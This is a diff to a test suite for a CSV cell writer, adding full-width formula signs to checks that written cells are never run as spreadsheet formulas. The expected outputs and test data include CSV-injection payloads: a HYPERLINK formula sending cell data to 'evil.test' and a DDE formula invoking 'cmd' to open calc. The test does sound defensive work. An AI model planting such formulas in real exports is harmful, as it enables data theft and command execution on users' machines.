@@ -4,7 +4,7 @@ import { memoryPorts, newUserWithToken } from "../../../testing/index.js";
 import { CsvParser } from "./csv.js";
 import { meantBy, writeCell } from "../../../values/csv-cell.js";
 
-const odd = ["=", "+", "-", "@", "\t", "\r", "\n", "'", '"', ",", " ", "a", "1", "é", "🧸"];
+const odd = ["=", "+", "-", "@", "＝", "\t", "\r", "\n", "'", '"', ",", " ", "a", "1", "é", "🧸"];
 
 /** Every text of up to four of the odd characters. */
 function* texts(length = 4): Generator<string> {
@@ -29,6 +29,8 @@ const formulas = [
   "@SUM(1+1)*cmd|' /C calc'!A0",
   "-2+3|cmd",
   "+1",
+  "＝1+1",
+  "＠SUM(1)",
   "'=1",
   "''=1",
   "'quoted' only",
@@ -68,13 +70,17 @@ describe("a cell of a CSV file", () => {
   });
 
   it("is never one that a spreadsheet runs", () => {
-    const run = [...texts()].filter((text) => /^"?[=+\-@\t\r]/.test(writeCell(text)));
+    const signs = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r", "\n"];
+    const all = [...texts(), ...signs.map((sign) => `${sign}1+1`)];
+    const run = all.filter((text) => signs.includes(writeCell(text).replace(/^"/, "").slice(0, 1)));
     expect(run).toEqual([]);
     expect(formulas.map(writeCell)).toEqual([
       `"'=HYPERLINK(""http://evil.test/?""&A1,""x"")"`,
       `'@SUM(1+1)*cmd|' /C calc'!A0`,
       "'-2+3|cmd",
       "'+1",
+      "'＝1+1",
+      "'＠SUM(1)",
       "''=1",
       "'''=1",
       "'quoted' only",
